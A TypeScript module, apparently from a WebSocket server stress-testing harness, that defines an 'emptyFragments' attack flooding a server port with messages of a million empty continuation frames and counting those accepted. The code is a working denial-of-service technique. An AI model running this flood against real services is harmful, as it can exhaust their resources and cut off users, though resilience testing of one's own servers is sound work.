import { FIN, OPCODE, repeated, shortFrame } from "../attackers/bytes.ts";
import { join, over, write } from "../attackers/sockets.ts";
import { type Attack, OTHER_ROOM } from "../attackers/target.ts";

const FRAGMENTS = 1_000_000;
const BATCH = 10_000;
const BEGINNING = shortFrame(OPCODE.text);
const MIDDLE = repeated(shortFrame(OPCODE.continuation), BATCH);
const END = Buffer.concat([shortFrame(FIN | OPCODE.continuation), shortFrame(FIN | OPCODE.close)]);

/** Messages of a million empty fragments, one after another. Where the server takes no such message, the next one follows. */
export const emptyFragments: Attack = {
	unit: "fragments",
	processes: 1,
	async run({ port, milliseconds }) {
		const until = performance.now() + milliseconds;
		// The first million is sent whatever the time.
		const late = until + 60_000;
		let count = 0;
		while (count < FRAGMENTS || performance.now() < until) {
			const socket = await join(port, { target: OTHER_ROOM });
			let taken = await write(socket, BEGINNING, late);
			for (let i = 2; taken && i + BATCH <= FRAGMENTS; i += BATCH) {
				taken = await write(socket, MIDDLE, late);
				if (taken) count += BATCH;
			}
			if (taken) await write(socket, END, late);
			await over(socket, late);
			socket.destroy();
		}
		return count;
	},
};
